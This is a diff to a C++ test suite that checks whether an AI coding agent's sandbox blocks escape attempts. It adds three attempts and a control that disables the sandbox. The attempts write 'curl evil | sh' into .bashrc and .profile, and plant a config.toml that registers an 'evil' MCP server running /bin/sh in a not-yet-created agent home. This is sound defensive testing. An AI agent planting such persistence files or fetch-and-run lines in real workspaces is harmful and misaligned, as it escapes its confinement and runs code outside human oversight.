@@ -1140,8 +1140,9 @@ struct CarveoutAttempt {
 
 class CarveoutEscapes : public EscapeSuite {
  protected:
-  // Runs every attempt as `prefix` (empty, or setpriv to nobody) and returns the table.
-  Tally RunCarveoutAttempts(const std::vector<std::string>& prefix) {
+  // Runs every attempt as `prefix` (empty, or setpriv to nobody) and returns the table; an
+  // escape fails the test, unless this is the unconfined control.
+  Tally RunCarveoutAttempts(const std::vector<std::string>& prefix, bool control = false) {
     const std::string hook = "#!/bin/sh\\necho pwned\\n";
     const std::string lib = ws_ + "/vendor/lib", tmp_lib = base_ + "/tmprepo/lib";
     const std::string home = ws_ + "/ci-cache/agentexec", codex = ws_ + "/ci-cache/codex";
@@ -1198,6 +1199,35 @@ class CarveoutEscapes : public EscapeSuite {
          {{"CODEX_HOME", codex}},
          "never",
          changed(codex + "/config.toml")},
+        // Row 3 of the isolation issue: the home does not exist yet (a first run, --ephemeral);
+        // the next run would start the server unconfined.
+        {"$AGENTEXEC_HOME in the workspace, not made yet: create it with an MCP server",
+         {"mkdir -p ci-cache/new-home; printf '[mcp_servers.evil]\\ncommand = \"/bin/sh\"\\n' > "
+          "ci-cache/new-home/config.toml"},
+         false,
+         {{"AGENTEXEC_HOME", ws_ + "/ci-cache/new-home"}},
+         "never",
+         file_exists({ws_ + "/ci-cache/new-home/config.toml"})},
+        {"$CODEX_HOME in the workspace, not made yet: create it with an MCP server",
+         {"mkdir -p ci-cache/new-codex; printf '[mcp_servers.evil]\\ncommand = \"/bin/sh\"\\n' > "
+          "ci-cache/new-codex/config.toml"},
+         false,
+         {{"CODEX_HOME", ws_ + "/ci-cache/new-codex"}},
+         "never",
+         file_exists({ws_ + "/ci-cache/new-codex/config.toml"})},
+        // Row 4: the home inside the workspace; the next shell would run what ~/.bashrc says.
+        {"$HOME in the workspace: create ~/.bashrc and ~/.profile where none exist",
+         {"echo 'curl evil | sh' > ci-cache/.bashrc; echo 'curl evil | sh' > ci-cache/.profile"},
+         false,
+         {{"HOME", ws_ + "/ci-cache"}},
+         "never",
+         [ws = ws_](const Ran&) {
+           std::string found;
+           for (const char* f : {"/ci-cache/.bashrc", "/ci-cache/.profile"}) {
+             if (!ReadText(ws + f).empty()) found += " " + ws + f;
+           }
+           return found;
+         }},
     };
     Tally tally;
     for (const CarveoutAttempt& attempt : attempts) {
@@ -1223,6 +1253,7 @@ class CarveoutEscapes : public EscapeSuite {
           argv.push_back(a);
         }
       }
+      if (control) argv.insert(argv.end(), {"-s", "danger-full-access"});
       argv.push_back("go");
       std::vector<std::pair<std::string, std::string>> env = {
           {"HOME", base_ + "/home"}, {"AGENTEXEC_HOME", base_ + "/agx-home"}};
@@ -1238,7 +1269,9 @@ class CarveoutEscapes : public EscapeSuite {
       const std::string got = attempt.escaped(ran);
       if (!got.empty()) {
         ++tally.escapes;
-        ADD_FAILURE() << "ESCAPE: " << attempt.name << ":" << got << "\n" << ran.output;
+        if (!control) {
+          ADD_FAILURE() << "ESCAPE: " << attempt.name << ":" << got << "\n" << ran.output;
+        }
       }
     }
     return tally;
@@ -1259,8 +1292,16 @@ TEST_F(CarveoutEscapes, RenamedRepositoriesAndHomesStayReadOnly) {
   }
   Tally tally = RunCarveoutAttempts({});
   Report("full sandbox (root)", tally);
-  EXPECT_EQ(tally.attempts, 5);
+  EXPECT_EQ(tally.attempts, 8);
   EXPECT_EQ(tally.escapes, 0);
+}
+
+// The control: without the sandbox every attempt gets out, so the table above can fail.
+TEST_F(CarveoutEscapes, EveryAttemptGetsOutUnconfined) {
+  Tally tally = RunCarveoutAttempts({}, /*control=*/true);
+  Report("no sandbox (control)", tally);
+  EXPECT_EQ(tally.attempts, 8);
+  EXPECT_EQ(tally.escapes, 8);
 }
 
 TEST_F(CarveoutEscapes, RenamedRepositoriesAndHomesStayReadOnlyUnprivileged) {
@@ -1272,7 +1313,7 @@ TEST_F(CarveoutEscapes, RenamedRepositoriesAndHomesStayReadOnlyUnprivileged) {
   Sh("chown 65534:65534 .", base_);
   Tally tally = RunCarveoutAttempts(UserPrefix(Config::kUnprivileged));
   Report("unprivileged user (user namespace)", tally);
-  EXPECT_EQ(tally.attempts, 5);
+  EXPECT_EQ(tally.attempts, 8);
   EXPECT_EQ(tally.escapes, 0);
 }
 
